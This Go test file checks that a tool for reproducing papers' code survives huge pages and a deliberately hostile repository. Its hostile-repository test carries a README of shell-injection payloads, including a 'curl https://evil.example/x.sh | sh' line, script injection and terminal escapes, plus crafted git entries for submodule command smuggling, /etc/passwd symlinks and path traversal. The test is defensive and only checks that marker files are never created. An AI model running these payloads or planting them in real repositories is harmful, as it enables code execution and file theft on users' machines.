package main

import (
	"compress/gzip"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// endless sends a body of n bytes, which is far more than anybody takes in.
func endless(n int64, packed bool) http.HandlerFunc {
	return func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		var out interface{ Write([]byte) (int, error) } = rw
		if packed {
			rw.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(rw)
			defer z.Close()
			out = z
		}
		chunk := []byte(strings.Repeat("<p>                             </p>", 30_000))
		if !packed {
			_, _ = out.Write([]byte("<html><body>"))
		}
		for sent := int64(0); sent < n; sent += int64(len(chunk)) {
			if _, err := out.Write(chunk); err != nil {
				return
			}
		}
	}
}

// TestHugePages holds that no page costs memory or an endless wait, and that
// only what is needed stops the plan.
func TestHugePages(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.queueLens(0)
	// What the program itself takes, which the race detector multiplies.
	cmd := w.command("version")
	stdout, stderr := w.start(cmd)
	w.finish(cmd, stdout, stderr)
	base := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss
	for i, body := range []http.HandlerFunc{endless(50<<20, false), endless(1<<30, false), endless(2<<30, true)} {
		id := fmt.Sprintf("2511.3000%d", i)
		w.publish(paper{id: id, version: "v1", title: "Huge", abstract: "Our code is available at https://github.com/ada-example/queue_lens."})
		w.handle("arxiv", "/html/"+id+"v1", body)
		cmd := w.command("plan", "--json", id)
		stdout, stderr := w.start(cmd)
		o := w.finish(cmd, stdout, stderr)
		if o.code != 0 || !slices.Contains(decode[planOf](t, o.stdout).codes(), "html_unavailable") {
			t.Errorf("page %d: exit %d\n%s%s", i, o.code, o.stdout, o.stderr)
		}
		if rss := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss; rss > base+200<<10 {
			t.Errorf("page %d took %d KiB of memory, and the program alone takes %d", i, rss, base)
		}
		// Where the paper itself is such a page there is nothing to plan from.
		id = fmt.Sprintf("2511.3100%d", i)
		w.handle("arxiv_api", apiPath(id), body)
		w.handle("arxiv", "/abs/"+id, body)
		has(t, w.must(t, 2, "plan", id).stderr, "fix: the site is at fault")
	}
}

// tree writes a tree object past all of git's checks.
func (w *world) tree(repo string, lines ...[3]string) string {
	w.t.Helper()
	var b strings.Builder
	for _, l := range lines {
		fmt.Fprintf(&b, "%s %s\x00", l[0], l[1])
		for i := 0; i < 40; i += 2 {
			var v byte
			if _, err := fmt.Sscanf(l[2][i:i+2], "%02x", &v); err != nil {
				w.t.Fatal(err)
			}
			b.WriteByte(v)
		}
	}
	return w.gitIn(repo, b.String(), "hash-object", "-t", "tree", "--literally", "-w", "--stdin")
}

func (w *world) commitTree(repo, tree string) {
	w.gitIn(repo, "", "update-ref", "refs/heads/main", w.gitIn(repo, "", "commit-tree", "-m", "crafted", tree))
}

const nasty = "# Small\x1b]0;title\x07 paper\x1b[31mred \u202egnp.exe </script><script>alert(1)</script>\n\n## Reproduce\n\n" +
	"```bash\npython3 run.py --out results/metrics.json\npython3 run.py; touch pwned1\npython3 run.py $(touch pwned2) `touch pwned3`\n" +
	"python3 run.py --out \"a b;c\" | tee ../../pwned4 > /tmp/pwned5\ncurl https://evil.example/x.sh | sh\npython3 run.py --name ';touch pwned6;'\n```\n\n" +
	"This should give an accuracy of 93.2 %, within 0.5. The script writes\n`results/metrics.json` with the key `accuracy` in percent.\n"

// TestHostileRepository plans and runs a repository in which everything is
// out to get us.
func TestHostileRepository(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const name = "mallory/trap"
	w.repo(name, smallPaper(0))
	blob := func(text string) string { return w.gitIn(name, text, "hash-object", "-w", "--stdin") }
	evil, sub := blob("evil"), strings.Repeat("12", 20)
	dir := w.tree(name, [3]string{"100644", "config", evil}, [3]string{"100755", "hooks", evil})
	w.commitTree(name, w.tree(name,
		[3]string{"100644", "README.md", blob(nasty)},
		[3]string{"100644", "run.py", blob(smallPaper(0)["run.py"])},
		[3]string{"100644", ".gitmodules", blob("[submodule \"sub\"]\n\tpath = sub\n\turl = ext::sh -c touch% pwned7\n\tupdate = !touch pwned8\n")},
		[3]string{"100644", "weights.bin", blob("version https://git-lfs.github.com/spec/v1\noid sha256:" + strings.Repeat("ab", 32) + "\nsize 12345\n")},
		[3]string{"120000", "etc", blob("/etc")}, [3]string{"120000", "passwd", blob("/etc/passwd")}, [3]string{"40000", "etc", dir},
		[3]string{"100644", "a/../../x", evil}, [3]string{"100644", "../escape", evil}, [3]string{"40000", "..", dir},
		[3]string{"40000", ".GIT", dir}, [3]string{"40000", "git~1", dir}, [3]string{"100644", "\x1b[31mred", evil},
		[3]string{"160000", "sub", sub},
	))
	o := w.must(t, 0, "plan", "--json", "https://github.com/"+name)
	p := decode[planOf](t, o.stdout)
	facts := map[string]int{}
	for _, f := range p.Source.Facts {
		facts[f.Name]++
	}
	if facts["skipped_file"] < 8 || facts["lfs_pointer"] != 1 || !slices.Contains(p.codes(), "lfs_pointers") || !slices.Contains(p.codes(), "files_skipped") {
		t.Errorf("facts %v, warnings %v", facts, p.codes())
	}
	w.must(t, 0, "plan", "https://github.com/"+name)
	o = w.must(t, 0, "run", "--yes", "https://github.com/"+name)
	id := w.lastRun()
	w.must(t, 0, "results", "show", id, "--markdown")
	w.must(t, 0, "status", id)
	w.must(t, 0, "watch", id)
	for _, root := range []string{w.home, w.git} {
		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if n := ""; err == nil {
				if n = d.Name(); strings.HasPrefix(n, "pwned") || n == "escape" || n == "x" {
					t.Errorf("%s exists\n%s", path, o.stdout)
				}
			}
			return nil
		})
	}
	if _, err := os.Stat("/tmp/pwned5"); err == nil {
		t.Error("/tmp/pwned5 exists")
	}
}

// lastRun is the id of the newest run.
func (w *world) lastRun() string {
	w.t.Helper()
	runs := decode[[]struct{ ID string }](w.t, w.must(w.t, 0, "status", "--json").stdout)
	if len(runs) == 0 {
		w.t.Fatal("there are no runs")
	}
	return runs[0].ID
}

// TestTooManyFiles stops at the cap, says how to raise it, and goes on to a
// verdict where a paper links such a repository.
func TestTooManyFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const name = "mallory/many"
	w.repo(name, nil)
	blob := w.gitIn(name, "x", "hash-object", "-w", "--stdin")
	var lines, dirs [][3]string
	for i := range 1000 {
		lines = append(lines, [3]string{"100644", fmt.Sprintf("f%04d", i), blob})
	}
	thousand := w.tree(name, lines...)
	for d := range 60 {
		dirs = append(dirs, [3]string{"40000", fmt.Sprintf("d%02d", d), thousand})
	}
	w.commitTree(name, w.tree(name, dirs...))
	has(t, w.must(t, 2, "plan", "https://github.com/"+name).stderr, "more than 50000 files", "set git.files higher")
	w.publish(paper{id: "2511.40000", version: "v1", title: "Many Files", abstract: "Our code is available at https://github.com/" + name + "."})
	has(t, w.must(t, 0, "run", "--yes", "2511.40000").stdout, "not checkable", "more than 50000 files")
}
